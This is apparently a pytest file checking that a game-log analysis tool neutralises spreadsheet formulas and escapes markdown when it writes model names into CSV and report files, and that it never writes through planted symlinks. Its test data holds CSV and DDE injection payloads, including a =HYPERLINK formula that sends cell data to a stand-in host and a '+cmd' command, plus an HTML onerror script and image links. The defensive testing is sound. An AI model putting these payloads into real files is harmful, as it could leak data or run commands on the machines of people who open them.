"""Issue 31 items 5 and 6: names from logs written into files other programs open. Every CSV the project
writes neutralises formula cells (mafiascope/export_text.py, the one helper); report.md shows names
as text; ``report --out DIR --force`` never writes through a symlink inside DIR."""

from __future__ import annotations

import ast
import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from mafiascope.cli import main

from .injection import problems

REPO = Path(__file__).resolve().parent.parent
HOSTILE = {
    "bot-balanced": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "bot-cautious": "+cmd|' /C calc'!A0",
    "bot-aggressive": "@SUM(1+1)*cmd|x",
    "bot-analyst": "\t=1+1 <img src=x onerror=alert(1)> | ![i](http://evil.example/b.png)",
    "bot-gullible": "-2+3 [link](http://evil.example) `code` $x$",
}


def _formula(cell: str) -> bool:
    head = cell.lstrip(" \t\r\n")[:1]
    if not (cell[:1] in "\t\r" or head in "=+-@") or len(cell) < 2:
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def test_cells_and_frames():
    from mafiascope.export_text import csv_cell, csv_text, md_inline

    for bad in HOSTILE.values():
        assert csv_cell(bad) == "'" + bad
    assert [csv_cell(x) for x in ("-0.25", "+3", "1e-3", "plain", "-", "", "a=b")] == ["-0.25", "+3", "1e-3", "plain", "-", "", "a=b"]
    df = pd.DataFrame({"model": ["=1+1", "ok"], "diff": [-0.5, 0.25], "=head": [1, 2]})
    rows = list(csv.reader(io.StringIO(csv_text(df))))
    assert rows == [["model", "diff", "'=head"], ["'=1+1", "-0.5", "1"], ["ok", "0.25", "2"]]  # numbers stay numbers
    assert md_inline("a|b<c>![x](y)`z`$m$") == "a\\|b&lt;c&gt;\\![x]\\(y)\\`z\\`\\$m\\$"
    assert md_inline("0.123 [0.100, 0.200] (n=5)") == "0.123 [0.100, 0.200] (n=5)"  # ordinary cells unchanged


def test_every_csv_goes_through_the_helper():
    """A test that fails on a CSV written any other way (pandas' to_csv or the csv module)."""
    files = subprocess.run(["git", "ls-files", "*.py"], cwd=REPO, capture_output=True, text=True, check=True).stdout.split()
    hits = []
    for rel in files:
        if rel.startswith(("tests/", "bench/")) or rel == "mafiascope/export_text.py":
            continue
        tree = ast.parse((REPO / rel).read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer", "DictWriter") and (
                    node.attr == "to_csv" or isinstance(node.value, ast.Name) and node.value.id == "csv"):
                hits.append(f"{rel}:{node.lineno}: {node.attr}")
    assert not hits, hits


def hostile_corpus(dst: Path, names: dict[str, str] = HOSTILE) -> Path:
    """Three demo games whose models are named by ``names`` (bot preset label -> hostile name)."""
    for gid in ("demo-classic-01", "demo-classic-02", "demo-classic-03"):
        shutil.copytree(REPO / "data" / "demo" / gid, dst / gid)
        path = dst / gid / "game.jsonl"
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        setup = json.loads(lines[0])
        for p in setup["players"]:
            p["model"] = names.get(p["model"], p["model"])
        path.write_text(json.dumps(setup) + "\n" + "".join(lines[1:]), encoding="utf-8")
    return dst


@pytest.mark.slow  # a report over three probed games
def test_report_csv_and_markdown_show_hostile_names_as_text(tmp_path):
    """Seen: report tables wrote =HYPERLINK(...), +cmd|..., @SUM(...) verbatim; report.md kept raw HTML,
    image links and | from model names."""
    logs = hostile_corpus(tmp_path / "logs")
    out = tmp_path / "rep"
    assert main(["report", str(logs), "--out", str(out), "--no-figures", "--boot", "50"]) == 0
    cells = 0
    negatives = 0
    for f in sorted((out / "tables").glob("*.csv")):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
            for cell in row:
                cells += 1
                assert not _formula(cell), (f.name, cell)
                negatives += cell.startswith("-") and cell[1:2].isdigit()
    assert cells and negatives, "the tables hold negative numbers (comparisons' differences), kept as numbers"
    by_model = (out / "tables" / "by_model.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in by_model and "'+cmd|" in by_model
    md = (out / "report.md").read_text(encoding="utf-8")
    assert not problems(md)  # rendered: no raw HTML, image, link, math or bare URL
    assert 'HYPERLINK("http\u2060://evil.example/?x="&amp;A1' in md and "\\![i]\\(http" in md  # the names, as text
    table = None  # every table row has as many cells as its header: no name broke a row
    for line in md.splitlines():
        if line.startswith("| ") and table is None:
            table = line.replace("\\|", "").count("|")
        elif line.startswith("| "):
            assert line.replace("\\|", "").count("|") == table, line
        else:
            table = None


@pytest.mark.slow  # a report over three probed games
def test_edge_stream_csv_neutralises_names(tmp_path):
    logs = hostile_corpus(tmp_path / "logs")
    assert main(["dynamics", str(logs), "--export-graph", str(tmp_path / "edges.csv")]) == 0
    text = (tmp_path / "edges.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1 and not any(_formula(c) for r in rows for c in r)
    assert any(c.startswith("'=HYPERLINK") for r in rows for c in r)


@pytest.mark.slow  # a report over three probed games
def test_report_force_never_writes_through_a_symlink(tmp_path):
    """Seen: `report --out DIR --force` followed symlinks planted inside DIR and overwrote a file outside it."""
    logs = hostile_corpus(tmp_path / "logs", {})
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "rep"
    out.mkdir()
    (out / "report.md").symlink_to(victim)
    (out / "tables").symlink_to(outside, target_is_directory=True)
    assert main(["report", str(logs), "--out", str(out), "--force", "--no-figures", "--boot", "20"]) == 0
    assert victim.read_text() == "keep me" and sorted(p.name for p in outside.iterdir()) == ["victim.txt"]
    assert not (out / "report.md").is_symlink() and (out / "report.md").read_text().startswith("# mafiascope corpus report")
    assert (out / "tables").is_dir() and not (out / "tables").is_symlink() and (out / "tables" / "by_model.csv").is_file()
    assert not [p for p in out.iterdir() if p.name.startswith(".staging")]


@pytest.mark.slow  # three reports
def test_a_model_name_with_a_comma_can_be_compared(tmp_path, capsys):
    """Seen: `compare --models` split on every comma, so a model named like "org/model,v2" could not be passed."""
    logs = hostile_corpus(tmp_path / "logs", {"bot-balanced": "org/model,v2"})
    for args in (["--models", "org/model,v2", "--models", "bot-analyst"], ["--models", '"org/model,v2",bot-analyst']):
        assert main(["compare", str(logs), *args, "--boot", "20", "--json", "--cache-dir", str(tmp_path / "c")]) == 0
        res = json.loads(capsys.readouterr().out)
        assert (res["a"], res["b"]) == ("org/model,v2", "bot-analyst")
    assert main(["compare", str(logs), "--models", "org/model,v2"]) == 2
    assert "--models A --models B" in capsys.readouterr().err
